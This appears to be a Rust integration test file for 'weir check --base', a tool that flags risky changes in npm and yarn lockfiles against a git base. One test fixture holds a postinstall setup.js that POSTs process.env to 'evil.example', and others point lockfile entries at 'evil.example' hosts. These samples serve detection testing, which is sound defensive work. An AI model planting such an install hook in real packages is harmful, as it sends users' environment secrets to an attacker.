//! `weir check --base`: what a change brings in, and nothing that was there before it.

use std::process::Command;

use serde_json::Value;
use weir_testing::{Package, Registry, Release};

use crate::support::{World, river};

const MANIFEST: &str =
    r#"{"name": "app", "version": "1.0.0", "dependencies": {"gauge-reader": "^1.0.0"}}"#;

/// Runs git in the working folder with nothing of this machine.
pub(crate) fn git(world: &World, arguments: &[&str]) {
    let output = Command::new("git")
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", world.path("home"))
        .args([
            "-c",
            "user.name=mill",
            "-c",
            "user.email=mill@example.invalid",
        ])
        .args([
            "-c",
            "init.defaultBranch=main",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(arguments)
        .current_dir(world.path("work"))
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "git {arguments:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

pub(crate) fn commit(world: &World) {
    git(world, &["add", "--all"]);
    git(world, &["commit", "--quiet", "--message", "before"]);
}

/// A lockfile with one entry per line: each is name and version.
fn lock(registry: &Registry, packages: &[(&str, &str)]) -> String {
    let mut text = String::from(
        "{\n\"name\": \"app\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, \"requires\": true, \"packages\": {\n\
         \"\": {\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {\"gauge-reader\": \"^1.0.0\"}}",
    );
    for (name, version) in packages {
        let integrity = registry.integrity(name, version).unwrap();
        text.push_str(&format!(
            ",\n\"node_modules/{name}\": {{\"version\": \"{version}\", \"resolved\": \"{}{name}/-/{name}-{version}.tgz\", \"integrity\": \"{integrity}\"}}",
            registry.url()
        ));
    }
    text.push_str("\n}}\n");
    text
}

/// A project that locks gauge-reader 1.0.0, committed.
fn committed(world: &World, registry: &Registry) {
    git(world, &["init", "--quiet"]);
    world.write("work/.npmrc", format!("registry={}\n", registry.url()));
    world.write("work/package.json", MANIFEST);
    world.write(
        "work/package-lock.json",
        lock(registry, &[("gauge-reader", "1.0.0")]),
    );
    commit(world);
}

/// Exit code and report.
fn report(world: &World, registry: &Registry, arguments: &[&str]) -> (i32, Value) {
    let run = world.run_before(registry, &[&["check", "--json"], arguments].concat());
    let report = serde_json::from_str(&run.stdout).unwrap_or_else(|_| panic!("{}", run.text()));
    (run.code.unwrap(), report)
}

fn rules(report: &Value) -> Vec<(&str, u64)> {
    let findings = report["findings"].as_array().unwrap().iter();
    findings
        .map(|it| (it["rule"].as_str().unwrap(), it["line"].as_u64().unwrap()))
        .collect()
}

#[test]
fn an_update_is_told_with_its_decision_and_what_was_there_is_not() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    // Nothing changed: nothing is told, whatever there would be to say of the project as a whole.
    let (code, same) = report(&world, &registry, &["--base", "HEAD"]);
    assert_eq!((code, rules(&same)), (0, vec![]), "{same:#}");
    assert_eq!(same["changes"]["packages"].as_array().unwrap().len(), 0);
    world.write(
        "work/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.1.0")]),
    );
    let (code, update) = report(&world, &registry, &["--base", "HEAD"]);
    assert_eq!((code, rules(&update)), (0, vec![]), "{update:#}");
    let changes = &update["changes"];
    assert_eq!(changes["base"], "HEAD");
    assert_eq!(changes["commit"].as_str().unwrap().len(), 40);
    let package = &changes["packages"][0];
    assert_eq!(package["kind"], "updated");
    assert_eq!(
        (&package["name"], &package["line"]),
        (&"gauge-reader".into(), &4.into())
    );
    assert_eq!(package["before"], serde_json::json!(["1.0.0"]));
    assert_eq!(package["after"], serde_json::json!(["1.1.0"]));
    let release = &package["releases"][0];
    assert!(
        ["allow", "notice"].contains(&release["decision"]["action"].as_str().unwrap()),
        "{release:#}"
    );
    assert_eq!(release["compared_with"], "1.0.0");
    assert_eq!(release["unknown"], serde_json::json!([]));
    assert_eq!(update["lockfiles"][0]["digests"]["same"], 1, "{update:#}");
}

#[test]
fn a_release_that_would_be_held_fails_the_change() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    world.write(
        "work/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.2.0")]),
    );
    let (code, held) = report(&world, &registry, &["--base", "HEAD"]);
    assert_eq!(code, 5);
    assert!(rules(&held).contains(&("release-refused", 4)), "{held:#}");
    let text = world.run_before(&registry, &["check", "--base", "HEAD"]);
    assert!(
        text.says("1.1.0 would be served instead"),
        "{}",
        text.text()
    );
    assert!(
        text.says("~ gauge-reader 1.0.0 -> 1.2.0: hold"),
        "{}",
        text.text()
    );
}

/// Without a network only what the data folder holds is said, and the rest is said to be unknown.
#[test]
fn offline_says_what_is_kept_and_what_is_not_known() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    world.write(
        "work/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.1.0")]),
    );
    let (code, unknown) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
    assert_eq!(code, 0);
    let told = rules(&unknown);
    assert!(told.contains(&("releases-not-assessed", 1)), "{unknown:#}");
    assert!(told.contains(&("digests-not-compared", 1)), "{unknown:#}");
    let release = &unknown["changes"]["packages"][0]["releases"][0];
    assert_eq!(release["decision"], Value::Null);
    assert!(!release["unknown"].as_array().unwrap().is_empty());
    assert!(registry.requests().is_empty());
    let (_, asked) = report(&world, &registry, &["--base", "HEAD"]);
    let seen = registry.requests().len();
    let (_, kept) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
    assert_eq!(registry.requests().len(), seen);
    let decision = |report: &Value| {
        report["changes"]["packages"][0]["releases"][0]["decision"]["action"].clone()
    };
    assert_eq!(decision(&kept), decision(&asked));
    assert_ne!(decision(&kept), Value::Null);
}

#[test]
fn what_a_release_newly_does_is_told() {
    let (world, registry) = (World::new(), river());
    let reads = "const https = require('https');\n\
        https.request({host: 'evil.example', method: 'POST'}).end(JSON.stringify(process.env));\n";
    let dam = Package::new("dam")
        .maintainer("mill")
        .release(
            Release::new("1.0.0")
                .published("2024-01-02T03:04:05.678Z")
                .file("index.js", "module.exports = 1;\n"),
        )
        .release(
            Release::new("1.0.1")
                .published("2025-01-02T03:04:05.678Z")
                .file("index.js", "module.exports = 1;\n")
                .file("setup.js", reads)
                .script("postinstall", "node setup.js"),
        );
    registry.add(dam);
    committed(&world, &registry);
    let manifest = MANIFEST.replace("gauge-reader", "dam");
    let locked = |version| {
        lock(&registry, &[("dam", version)])
            .replace("\"gauge-reader\": \"^1.0.0\"", "\"dam\": \"^1.0.0\"")
    };
    world.write("work/package.json", manifest);
    world.write("work/package-lock.json", locked("1.0.0"));
    commit(&world);
    world.write("work/package-lock.json", locked("1.0.1"));
    let (code, change) = report(&world, &registry, &["--base", "HEAD"]);
    assert_eq!(code, 5, "{change:#}");
    let told = rules(&change);
    for rule in ["release-refused", "new-behaviour", "install-script"] {
        assert!(told.contains(&(rule, 4)), "{rule}: {change:#}");
    }
    let behaviour = change["changes"]["packages"][0]["releases"][0]["behaviour"].to_string();
    assert!(
        behaviour.contains("runs at install time: postinstall: node setup.js"),
        "{behaviour}"
    );
    let findings = change["findings"].to_string();
    assert!(
        findings.contains("`postinstall: node setup.js`, which is able to"),
        "{findings}"
    );
}

#[test]
fn other_bytes_for_the_same_version_are_an_error() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    let clean = lock(&registry, &[("gauge-reader", "1.0.0")]);
    let integrity = registry.integrity("gauge-reader", "1.0.0").unwrap();
    let other = format!("sha512-{}==", "A".repeat(86));
    for (digest, error) in [
        (other.clone(), true),
        // A digest beside the right one would let other bytes pass as well.
        (format!("{integrity} {other}"), true),
        (
            format!("{integrity} sha1-qZk+NkcGgWq6PiVxeFDCbJzQ2J0="),
            false,
        ),
    ] {
        world.write("work/package-lock.json", clean.replace(&integrity, &digest));
        let (code, change) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
        assert_eq!(
            rules(&change).contains(&("entry-replaced", 4)),
            error,
            "{digest}: {change:#}"
        );
        assert_eq!(code == 5, error, "{digest}: {change:#}");
    }
    // What is made of that very release is told, and not that it comes from no registry.
    world.write("work/package-lock.json", clean.replace(&integrity, &other));
    let (_, asked) = report(&world, &registry, &["--base", "HEAD"]);
    let release = &asked["changes"]["packages"][0]["releases"][0];
    assert_eq!(release["version"], "1.0.0", "{asked:#}");
    assert!(release["decision"].is_object(), "{asked:#}");
    let findings = asked["findings"].to_string();
    assert!(!findings.contains("not from a registry"), "{findings}");
    assert!(!findings.contains("--offline: they count"), "{findings}");
    // From elsewhere, without a digest to tell that the bytes are the same.
    let bare = clean.replace(&format!(", \"integrity\": \"{integrity}\""), "");
    world.write("work/package-lock.json", &bare);
    commit(&world);
    world.write(
        "work/package-lock.json",
        bare.replace(&registry.url(), "https://evil.example/"),
    );
    let (_, moved) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
    assert!(rules(&moved).contains(&("entry-replaced", 4)), "{moved:#}");
    assert!(
        !rules(&moved).contains(&("no-integrity", 4)),
        "it was so before: {moved:#}"
    );
}

#[test]
fn packages_come_and_go_and_registries_change() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    let both = lock(
        &registry,
        &[("gauge-reader", "1.0.0"), ("@millpond/sluice", "2.0.0")],
    );
    world.write("work/package-lock.json", &both);
    world.write(
        "work/.npmrc",
        "registry=https://registry.example.invalid/\n",
    );
    let (_, change) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
    assert_eq!(change["changes"]["packages"][0]["kind"], "added");
    assert_eq!(change["changes"]["packages"][0]["name"], "@millpond/sluice");
    let told: Vec<&str> = change["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|it| it["rule"] == "registry-changed")
        .map(|it| it["file"].as_str().unwrap())
        .collect();
    assert_eq!(
        told,
        [".npmrc", ".npmrc"],
        "what came, and what went: {change:#}"
    );
    commit(&world);
    world.write(
        "work/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.0.0")]),
    );
    let (_, removed) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
    assert_eq!(removed["changes"]["packages"][0]["kind"], "removed");
    let text = world.run_before(&registry, &["check", "--base", "HEAD", "--offline"]);
    assert!(
        text.says("0 added, 0 updated, 1 removed"),
        "{}",
        text.text()
    );
    assert!(text.says("- @millpond/sluice 2.0.0"), "{}", text.text());
}

/// A project below the root, a lockfile that is new, and one that was broken.
#[test]
fn the_earlier_files_may_be_elsewhere_missing_or_broken() {
    let (world, registry) = (World::new(), river());
    git(&world, &["init", "--quiet"]);
    world.write("work/app/package.json", MANIFEST);
    commit(&world);
    world.write(
        "work/app/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.0.0")]),
    );
    let (_, new) = report(&world, &registry, &["app", "--base", "HEAD", "--offline"]);
    assert_eq!(new["changes"]["packages"][0]["kind"], "added");
    commit(&world);
    let (_, same) = report(&world, &registry, &["app", "--base", "HEAD", "--offline"]);
    assert_eq!(same["changes"]["packages"], serde_json::json!([]));
    world.write("work/app/package-lock.json", "{");
    commit(&world);
    world.write(
        "work/app/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.0.0")]),
    );
    let (_, broken) = report(&world, &registry, &["app", "--base", "HEAD", "--offline"]);
    assert!(
        rules(&broken).contains(&("base-unreadable", 1)),
        "{broken:#}"
    );
    assert_eq!(broken["changes"]["packages"][0]["kind"], "added");
}

#[test]
fn what_git_cannot_find_is_an_error() {
    let (world, registry) = (World::new(), river());
    world.write("work/package.json", MANIFEST);
    world.write(
        "work/package-lock.json",
        lock(&registry, &[("gauge-reader", "1.0.0")]),
    );
    let run = world.run_before(&registry, &["check", "--base", "HEAD"]);
    assert_eq!(run.code, Some(1), "{}", run.text());
    assert!(run.says("is in no git repository"), "{}", run.text());
    git(&world, &["init", "--quiet"]);
    commit(&world);
    for name in ["no-such-branch", "--output=x", ""] {
        let base = format!("--base={name}");
        let run = world.run_before(&registry, &["check", &base]);
        assert_eq!(run.code, Some(1), "{name}: {}", run.text());
        assert!(run.says("commit"), "{name}: {}", run.text());
    }
    assert!(!world.path("work/x").exists());
}

/// A change may bring the policy that judges it.
#[test]
fn a_policy_that_the_change_touches_is_told() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    let told = |arguments: &[&str]| -> Vec<String> {
        let (_, report) = report(&world, &registry, arguments);
        let findings = report["findings"].as_array().unwrap().iter();
        let of_policy = findings.filter(|it| it["rule"] == "policy-changed");
        of_policy
            .map(|it| it["what"].as_str().unwrap().to_owned())
            .collect()
    };
    let offline = ["--base", "main", "--offline"];
    assert!(told(&offline).is_empty());
    world.write("work/weir.toml", "[age]\nminimum = \"1h\"\n");
    assert_eq!(told(&offline), ["the policy is new"]);
    commit(&world);
    assert!(told(&offline).is_empty());
    world.write("work/weir.toml", "[age]\nminimum = \"2h\"\n");
    assert_eq!(told(&offline), ["the policy is another than before"]);
    std::fs::remove_file(world.path("work/weir.toml")).unwrap();
    assert_eq!(told(&offline), ["the policy is not there any more"]);
}

/// The policy in force may lie above the project, and another one may come into force by what comes or goes
/// nearer by.
#[test]
fn a_policy_above_the_project_is_compared_up_to_the_root_of_the_repository() {
    let (world, registry) = (World::new(), river());
    git(&world, &["init", "--quiet"]);
    world.write("work/deep/app/package.json", MANIFEST);
    let lock = lock(&registry, &[("gauge-reader", "1.0.0")]);
    world.write("work/deep/app/package-lock.json", lock);
    world.write("work/weir.toml", "[age]\nminimum = \"1h\"\n");
    commit(&world);
    let told = |folder: &str| -> Vec<(String, String)> {
        let (_, report) = report(&world, &registry, &[folder, "--base", "HEAD", "--offline"]);
        let findings = report["findings"].as_array().unwrap().iter();
        let text = |it: &Value| it.as_str().unwrap().to_owned();
        findings
            .filter(|it| it["rule"] == "policy-changed")
            .map(|it| (text(&it["file"]), text(&it["what"])))
            .collect()
    };
    let one = |file: &str, what: &str| vec![(file.to_owned(), what.to_owned())];
    assert!(told("deep/app").is_empty());
    world.write("work/weir.toml", "[age]\nminimum = \"0h\"\n");
    assert_eq!(
        told("deep/app"),
        one("weir.toml", "the policy is another than before")
    );
    // A nearer one hides it.
    world.write("work/deep/weir.toml", "[age]\nminimum = \"1h\"\n");
    assert_eq!(
        told("deep/app"),
        one(
            "deep/weir.toml",
            "the policy is new, and in force in place of ../../weir.toml"
        )
    );
    commit(&world);
    world.write("work/weir.toml", "[age]\nminimum = \"3h\"\n");
    assert!(told("deep/app").is_empty(), "not in force");
    std::fs::remove_file(world.path("work/deep/weir.toml")).unwrap();
    assert_eq!(
        told("deep/app"),
        one(
            "deep/weir.toml",
            "the policy is not there any more, and ../../weir.toml is in force"
        )
    );
}

/// A change does not vouch for the registry that its own entries lead to.
#[test]
fn the_registry_of_yarn_1_is_the_one_from_before_the_change() {
    let (world, registry) = (World::new(), river());
    git(&world, &["init", "--quiet"]);
    world.write("work/package.json", MANIFEST);
    let lock = |host: &str| {
        let integrity = registry.integrity("gauge-reader", "1.0.0").unwrap();
        format!(
            "# yarn lockfile v1\n\n\ngauge-reader@^1.0.0:\n  version \"1.0.0\"\n  \
             resolved \"https://{host}/gauge-reader/-/gauge-reader-1.0.0.tgz\"\n  integrity {integrity}\n"
        )
    };
    world.write("work/yarn.lock", lock("registry.example.invalid"));
    commit(&world);
    let foreign = |host: &str| {
        world.write("work/yarn.lock", lock(host));
        let (_, report) = report(&world, &registry, &["--base", "HEAD"]);
        rules(&report)
            .iter()
            .any(|(rule, _)| *rule == "foreign-registry")
    };
    assert!(!foreign("registry.example.invalid"));
    assert!(foreign("evil.example.invalid"));
}

/// One line makes yarn fill a checksum in from whatever it fetches, and two make npm take a release for one that
/// comes inside another.
#[test]
fn a_digest_that_goes_is_an_error() {
    let yarn = "__metadata:\n  version: 8\n\n\"app@workspace:.\":\n  version: 0.0.0-use.local\n  \
                resolution: \"app@workspace:.\"\n  dependencies:\n    gauge-reader: \"npm:^1.0.0\"\n\n\
                \"gauge-reader@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"gauge-reader@npm:1.0.0\"\n  \
                checksum: 10c0/ab\n";
    let digest = format!("\"integrity\": \"sha512-{}==\"", "A".repeat(86));
    let npm = |reader: &str, silt: &str, place: &str| {
        format!(
            r#"{{"lockfileVersion": 3, "packages": {{
"": {{"name": "app", "version": "1.0.0", "dependencies": {{"gauge-reader": "^1.0.0"}}}},
"node_modules/gauge-reader": {{"version": "1.0.0", {digest}, "dependencies": {{"silt": "1.0.0"}}{reader}}},
"{place}": {{"version": "1.0.0", {silt}}}
}}}}"#
        )
    };
    let (top, inner) = (
        "node_modules/silt",
        "node_modules/gauge-reader/node_modules/silt",
    );
    let list = r#", "bundleDependencies": ["silt"]"#;
    let bundled = r#""inBundle": true"#;
    let conditions = yarn.replace("checksum: 10c0/ab", "conditions: os=linux");
    for (file, before, after, wanted) in [
        ("yarn.lock", yarn.to_owned(), conditions, &[10][..]),
        (
            "package-lock.json",
            npm("", &digest, top),
            npm(list, bundled, inner),
            &[3, 4],
        ),
        (
            "package-lock.json",
            npm(list, bundled, inner),
            npm(list, bundled, inner),
            &[],
        ),
        (
            "package-lock.json",
            npm("", &digest, top),
            npm("", &digest, inner),
            &[],
        ),
    ] {
        let (world, registry) = (World::new(), river());
        git(&world, &["init", "--quiet"]);
        world.write("work/package.json", MANIFEST);
        world.write(&format!("work/{file}"), before);
        commit(&world);
        world.write(&format!("work/{file}"), after);
        let (code, change) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
        let told = rules(&change).into_iter();
        let lines: Vec<_> = told
            .filter(|(rule, _)| *rule == "entry-replaced")
            .map(|(_, line)| line)
            .collect();
        assert_eq!(lines, wanted, "{file}: {change:#}");
        assert_eq!(code == 5, !wanted.is_empty(), "{file}: {change:#}");
    }
}

/// What is new was not there before: there is nothing to compare it with, and nothing is missing once it was read.
#[test]
fn offline_a_package_that_is_new_is_compared_with_nothing() {
    let (world, registry) = (World::new(), river());
    committed(&world, &registry);
    world.write(
        "work/package-lock.json",
        lock(
            &registry,
            &[("gauge-reader", "1.0.0"), ("@millpond/sluice", "2.0.0")],
        ),
    );
    let unknown = || {
        let (_, report) = report(&world, &registry, &["--base", "HEAD", "--offline"]);
        let packages = report["changes"]["packages"].as_array().unwrap();
        let new = packages.iter().find(|it| it["name"] == "@millpond/sluice");
        new.unwrap()["releases"][0]["unknown"].clone()
    };
    assert_eq!(
        unknown(),
        serde_json::json!(["no decision is kept", "its contents are not kept"])
    );
    world
        .run_before(&registry, &["inspect", "@millpond/sluice@2.0.0"])
        .assert_success();
    assert_eq!(unknown(), serde_json::json!([]));
}
